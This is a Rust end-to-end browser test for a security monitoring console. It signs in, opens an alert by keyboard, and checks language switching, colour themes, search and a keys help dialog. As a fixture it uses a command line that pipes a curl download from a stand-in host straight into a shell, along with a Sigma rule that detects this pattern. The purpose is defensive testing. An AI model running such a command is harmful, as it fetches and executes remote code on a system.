//! A real browser: signs in, goes to an alert by keyboard, switches language and colours, and complains of
//! nothing. With `MIMAMORI_SCREENSHOTS` set to a folder, keeps a picture of every screen there.

use crate::support::{Console, folder};
use control::fixture::{Program, alert_on, process_fields};
use fantoccini::key::Key;
use fantoccini::{Client, ClientBuilder, Locator};
use hyper_util::client::legacy::connect::HttpConnector;
use model::{Clock as _, EventKind, Level};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;
use tokio::io::{AsyncBufReadExt as _, AsyncReadExt as _, AsyncWriteExt as _, BufReader};
use tokio::net::{TcpListener, TcpStream};
use tokio::process::{Child, Command};

const CHROMIUM: &str = "/usr/bin/chromium";
const CHROMEDRIVER: &str = "/usr/bin/chromedriver";
const PATIENCE: Duration = Duration::from_secs(60);
/// Looks at the page before giving up, a tenth of a second or half of that apart.
const POLLS_MAX: usize = 600;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_browser_signs_in_and_reads_an_alert_in_both_languages_and_colours() {
    if !is_here() {
        return;
    }
    let mut console = Console::open().await;
    let address = serve(&console).await;
    let browser = Browser::start().await;
    let client = &browser.client;
    let token = console.scene.control.issue_sign_in_token("administrator").await.unwrap();

    client.goto(&format!("http://{address}/signin?token={token}")).await.unwrap();
    shoot(client, "signin").await;
    // The button has the focus: Enter is enough.
    client.active_element().await.unwrap().send_keys(&Key::Enter.to_string()).await.unwrap();
    browser.wait("#strip").await;
    browser.choose("language", "en").await;
    assert_eq!(browser.text("#alerts h2").await, "Alerts, last 24 hours");

    today_is_live(&mut console, &browser).await;
    alert_by_keyboard(&browser).await;
    language_and_colours(&browser).await;
    search_by_keyboard(&browser).await;
    keys_help(&browser).await;
    gallery(&console, &browser, &address).await;

    let complaints = browser.complaints().await;
    assert!(complaints.is_empty(), "the browser complains: {complaints:#?}");
    browser.stop().await;
}

/// Whether a browser and its driver are installed; says so when not.
#[expect(clippy::print_stdout, reason = "a test that is skipped says so")]
pub(crate) fn is_here() -> bool {
    let missing =
        [CHROMIUM, CHROMEDRIVER].into_iter().find(|program| !Path::new(program).is_file());
    if let Some(program) = missing {
        println!("skipped: {program} is not installed");
    }
    missing.is_none()
}

async fn today_is_live(console: &mut Console, browser: &Browser) {
    let device = console.scene.web.enrolled.device;
    let at = console.scene.clock.now().plus_nanos(-5_000_000_000);
    let arguments = ["/bin/sh", "-c", "curl -fsS http://203.0.113.7/stage2 | sh"];
    let program =
        Program { pid: 4100, parent: 4011, image: "/usr/bin/dash", arguments: &arguments };
    let event =
        console.scene.web.event(EventKind::ProcessStart, at, process_fields(device, &program));
    let mut alert = alert_on(
        &event,
        "9c3f7a52-7d1e-4b76-9d0e-2f1f0f7f6a11",
        "Download Piped Into A Shell",
        Level::Critical,
    );
    alert.rule_text = RULE.to_owned();
    alert.why = why();
    let alerts = vec![alert];
    console.scene.commit(vec![event], alerts.clone()).await.unwrap();
    console.scene.control.take_alerts(&alerts).await.unwrap();
    // No reload: the page asks by itself.
    browser.wait_for_text("#alerts", "Download Piped Into A Shell").await;
}

async fn alert_by_keyboard(browser: &Browser) {
    browser.press("j").await;
    browser.press(&Key::Enter.to_string()).await;
    // The finding, and from it its newest alert.
    browser.wait("#newest").await;
    browser.press("j").await;
    browser.press(&Key::Enter.to_string()).await;
    browser.wait("#why").await;
    assert_eq!(browser.text("h1 bdi").await, "Download Piped Into A Shell");
    let marked = browser.texts("#why mark").await;
    assert_eq!(marked, ["/dash", "curl ", " | sh"]);
    let command = browser.text("#command").await;
    assert_eq!(command, "/bin/sh -c curl -fsS http://203.0.113.7/stage2 | sh");
    let ancestors = browser.texts(".tree b").await;
    assert_eq!(ancestors.last().map(String::as_str), Some("dash"));
    assert!(ancestors.len() > 2, "{ancestors:?}");
    assert_eq!(browser.texts(".source .held code").await.len(), 3);
}

async fn language_and_colours(browser: &Browser) {
    browser.choose("language", "ja").await;
    assert_eq!(browser.attribute("html", "lang").await, "ja");
    assert_eq!(browser.text("#why h2").await, "アラートになった理由");
    let (light, dark) = ("rgb(245, 246, 247)", "rgb(15, 20, 22)");
    for (system, expected) in [("dark", dark), ("light", light)] {
        browser.emulate(system).await;
        assert_eq!(browser.paper().await, expected, "the system's {system}");
    }
    // The person's choice beats the system, and survives the next page.
    browser.choose("theme", "dark").await;
    assert_eq!(browser.paper().await, dark);
    browser.choose("theme", "light").await;
    browser.emulate("dark").await;
    assert_eq!(browser.paper().await, light);
    browser.choose("theme", "system").await;
    assert_eq!(browser.paper().await, dark);
    browser.emulate("light").await;
    browser.choose("language", "en").await;
}

async fn search_by_keyboard(browser: &Browser) {
    browser.press("g").await;
    browser.press("s").await;
    browser.wait("form.query").await;
    browser.press("/").await;
    let enter = Key::Enter.to_string();
    browser.press(&format!("Image:*curl family{enter}")).await;
    browser.wait(".empty").await;
    browser.press("/").await;
    browser.press(&format!("Image:*curl{enter}")).await;
    browser.wait("[data-row]").await;
    browser.press("j").await;
    browser.press(&enter).await;
    browser.wait(".inspector").await;
    assert!(browser.text(".inspector").await.contains("ProcessGuid"));
    browser.press(&enter).await;
    browser.wait_gone(".inspector").await;
}

async fn keys_help(browser: &Browser) {
    browser.press("?").await;
    browser.wait("dialog[open]").await;
    let table = std::fs::read_to_string(folder("src/keys.rs")).unwrap();
    let keys = table.matches("label: \"keys-").count();
    assert_eq!(browser.texts("dialog tr").await.len(), keys, "the help shows every key");
    shoot(&browser.client, "keys").await;
    browser.press(&Key::Escape.to_string()).await;
    browser.wait_gone("dialog[open]").await;
}

/// Every screen in both languages and colours, for people to look at.
async fn gallery(console: &Console, browser: &Browser, address: &str) {
    if std::env::var_os("MIMAMORI_SCREENSHOTS").is_none() {
        return;
    }
    let key = console.scene.download;
    let device = console.scene.web.enrolled.device;
    browser.client.goto(&format!("http://{address}/alerts?view=single")).await.unwrap();
    let alert = browser.attribute("tbody a[data-open]", "href").await;
    let screens = [
        ("today", "/".to_owned()),
        ("alerts", "/alerts".to_owned()),
        ("alert", alert),
        ("search", "/search?q=".to_owned()),
        ("search-none", "/search?q=User:nobody".to_owned()),
        ("devices", "/devices".to_owned()),
        ("device", format!("/devices/{device}")),
        ("event", format!("/events/{}/{}/{}", key.agent, key.epoch, key.seq)),
    ];
    for language in ["ja", "en"] {
        browser.choose("language", language).await;
        for scheme in ["light", "dark"] {
            browser.emulate(scheme).await;
            for (name, path) in &screens {
                browser.client.goto(&format!("http://{address}{path}")).await.unwrap();
                shoot(&browser.client, &format!("{name}-{language}-{scheme}")).await;
            }
        }
    }
}

pub(crate) async fn serve(console: &Console) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let router = console.router.clone();
    tokio::spawn(async move { axum::serve(listener, router).await });
    address
}

pub(crate) async fn shoot(client: &Client, name: &str) {
    let Some(folder) = std::env::var_os("MIMAMORI_SCREENSHOTS") else { return };
    let picture = client.screenshot().await.unwrap();
    std::fs::write(PathBuf::from(folder).join(format!("{name}.png")), picture).unwrap();
}

/// A browser with an empty profile, steered through its driver.
pub(crate) struct Browser {
    pub(crate) client: Client,
    driver: Child,
    port: u16,
    session: String,
    _profile: tempfile::TempDir,
}

impl Drop for Browser {
    /// A test that failed leaves no browser behind: ending the driver alone would.
    #[expect(clippy::print_stdout, reason = "nobody else can be told while a test ends")]
    fn drop(&mut self) {
        if !std::thread::panicking() {
            return;
        }
        let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", self.port)) else { return };
        let request = format!(
            "DELETE /session/{} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
            self.session
        );
        let mut answer = [0; 512];
        let asked = std::io::Write::write_all(&mut stream, request.as_bytes())
            .and_then(|()| stream.set_read_timeout(Some(Duration::from_secs(5))))
            .and_then(|()| std::io::Read::read(&mut stream, &mut answer));
        if let Err(error) = asked {
            println!("the browser may still run: {error}");
        }
    }
}

impl Browser {
    pub(crate) async fn start() -> Self {
        let mut driver = Command::new(CHROMEDRIVER)
            .arg("--port=0")
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        let mut lines = BufReader::new(driver.stdout.take().unwrap()).lines();
        let port = loop {
            let line = lines.next_line().await.unwrap().expect("chromedriver says its port");
            let Some((_, port)) = line.split_once("started successfully on port ") else {
                continue;
            };
            break port.trim_end_matches('.').parse().unwrap();
        };
        tokio::spawn(async move { while let Ok(Some(_)) = lines.next_line().await {} });
        let profile = tempfile::tempdir().unwrap();
        let capabilities = json!({
            "goog:loggingPrefs": { "browser": "ALL" },
            "goog:chromeOptions": { "binary": CHROMIUM, "args": [
                "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--disable-dev-shm-usage", "--window-size=1280,800", "--hide-scrollbars",
                format!("--user-data-dir={}", profile.path().display()),
            ]},
        });
        let Value::Object(capabilities) = capabilities else { unreachable!() };
        let client = ClientBuilder::new(HttpConnector::new())
            .capabilities(capabilities)
            .connect(&format!("http://127.0.0.1:{port}"))
            .await
            .unwrap();
        let session = client.session_id().await.unwrap().unwrap();
        let browser = Self { client, driver, port, session, _profile: profile };
        let size = json!({ "width": 1280, "height": 800, "deviceScaleFactor": 1, "mobile": false });
        browser.devtools("Emulation.setDeviceMetricsOverride", size).await;
        browser.emulate("light").await;
        browser
    }

    /// Ends the browser and then its driver, whose end alone would leave the browser behind.
    pub(crate) async fn stop(mut self) {
        self.client.clone().close().await.unwrap();
        self.driver.kill().await.unwrap();
    }

    pub(crate) async fn wait(&self, selector: &str) {
        let wait = self.client.wait().at_most(PATIENCE);
        let found = wait.for_element(Locator::Css(selector)).await;
        if let Err(error) = found {
            let url = self.client.current_url().await;
            panic!("{selector} does not come: {error}; {url:?} says: {}", self.text("body").await);
        }
    }

    pub(crate) async fn wait_gone(&self, selector: &str) {
        for _ in 0..POLLS_MAX {
            if self.client.find_all(Locator::Css(selector)).await.unwrap().is_empty() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("{selector} stays");
    }

    pub(crate) async fn wait_for_text(&self, selector: &str, text: &str) {
        for _ in 0..POLLS_MAX {
            if self.text(selector).await.contains(text) {
                return;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let url = self.client.current_url().await;
        let said = self.text("main").await;
        panic!("{selector} never says {text}; {url:?} says: {said}");
    }

    pub(crate) async fn press(&self, keys: &str) {
        let focused = self.client.active_element().await.unwrap();
        focused.send_keys(keys).await.unwrap();
    }

    /// Uses a switch of the settings menu and waits for the page to come back.
    pub(crate) async fn choose(&self, form: &str, value: &str) {
        let before = self.client.find(Locator::Css("html")).await.unwrap();
        self.client.find(Locator::Css("[data-menu] summary")).await.unwrap().click().await.unwrap();
        let button = format!("#{form} button[value={value}]");
        self.client.find(Locator::Css(&button)).await.unwrap().click().await.unwrap();
        for _ in 0..POLLS_MAX {
            // The old page's elements are stale once the new page is there.
            if before.attr("lang").await.is_err() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        self.wait("main").await;
        let pressed = format!("#{form} button[value={value}][aria-pressed]");
        self.wait(&pressed).await;
    }

    pub(crate) async fn text(&self, selector: &str) -> String {
        // A page that refreshes itself may replace the element between finding and reading.
        let script = "return document.querySelector(arguments[0])?.innerText.trim() ?? ''";
        let text = self.client.execute(script, vec![json!(selector)]).await.unwrap();
        text.as_str().unwrap_or_default().to_owned()
    }

    pub(crate) async fn texts(&self, selector: &str) -> Vec<String> {
        let script =
            "return [...document.querySelectorAll(arguments[0])].map((e) => e.textContent)";
        let texts = self.client.execute(script, vec![json!(selector)]).await.unwrap();
        serde_json::from_value(texts).unwrap()
    }

    pub(crate) async fn attribute(&self, selector: &str, name: &str) -> String {
        let found = self.client.find(Locator::Css(selector)).await.unwrap();
        found.attr(name).await.unwrap().unwrap_or_default()
    }

    async fn paper(&self) -> String {
        let script = "return getComputedStyle(document.body).backgroundColor";
        self.client.execute(script, Vec::new()).await.unwrap().as_str().unwrap().to_owned()
    }

    pub(crate) async fn emulate(&self, scheme: &str) {
        let feature = json!([{ "name": "prefers-color-scheme", "value": scheme }]);
        self.devtools("Emulation.setEmulatedMedia", json!({ "features": feature })).await;
    }

    pub(crate) async fn devtools(&self, command: &str, parameters: Value) {
        self.driver("goog/cdp/execute", &json!({ "cmd": command, "params": parameters })).await;
    }

    /// What the browser wrote to its console since the last call.
    pub(crate) async fn complaints(&self) -> Vec<Value> {
        let log = self.driver("se/log", &json!({ "type": "browser" })).await;
        log["value"].as_array().cloned().unwrap_or_default()
    }

    /// A command that the WebDriver standard does not have, over the plainest HTTP.
    async fn driver(&self, command: &str, body: &Value) -> Value {
        let body = body.to_string();
        let mut stream = TcpStream::connect(("127.0.0.1", self.port)).await.unwrap();
        let request = format!(
            "POST /session/{}/{command} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nConnection: close\r\n\
             Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            self.session,
            self.port,
            body.len()
        );
        stream.write_all(request.as_bytes()).await.unwrap();
        // The driver keeps the connection, so the answer ends where its length says.
        let mut reader = BufReader::new(stream);
        let (mut head, mut length) = (String::new(), 0);
        while !head.ends_with("\r\n\r\n") && !head.ends_with("\n\r\n") {
            let begin = head.len();
            reader.read_line(&mut head).await.unwrap();
            let line = head[begin..].to_ascii_lowercase();
            if let Some(text) = line.strip_prefix("content-length:") {
                length = text.trim().parse().unwrap();
            }
        }
        let mut answer = vec![0; length];
        reader.read_exact(&mut answer).await.unwrap();
        let body = String::from_utf8(answer).unwrap();
        assert!(head.starts_with("HTTP/1.1 200"), "{command}: {head}{body}");
        serde_json::from_str(&body).unwrap()
    }
}

const RULE: &str = "\
title: Download Piped Into A Shell
id: 9c3f7a52-7d1e-4b76-9d0e-2f1f0f7f6a11
status: test
description: A shell runs a command line that downloads with curl or wget and pipes the answer straight into a shell, so that nothing is left on the disk.
references:
    - https://attack.mitre.org/techniques/T1059/004/
tags:
    - attack.execution
    - attack.t1059.004
logsource:
    product: linux
    category: process_creation
detection:
    selection_shell:
        Image|endswith:
            - '/dash'
            - '/bash'
            - '/sh'
    selection_download:
        CommandLine|contains:
            - 'curl '
            - 'wget '
    selection_pipe:
        CommandLine|contains:
            - ' | sh'
            - ' | bash'
    condition: all of selection_*
falsepositives:
    - Installers that a person runs from their documentation
level: critical
";

fn why() -> Vec<model::Why> {
    let command = "/bin/sh -c curl -fsS http://203.0.113.7/stage2 | sh";
    [
        ("selection_shell", "Image", "endswith", "/dash", "/usr/bin/dash"),
        ("selection_download", "CommandLine", "contains", "curl ", command),
        ("selection_pipe", "CommandLine", "contains", " | sh", command),
    ]
    .map(|(selection, field, modifier, pattern, value)| model::Why {
        selection: selection.to_owned(),
        field: Some(field.to_owned()),
        modifier: modifier.to_owned(),
        pattern: pattern.to_owned(),
        value: Some(value.to_owned()),
    })
    .to_vec()
}
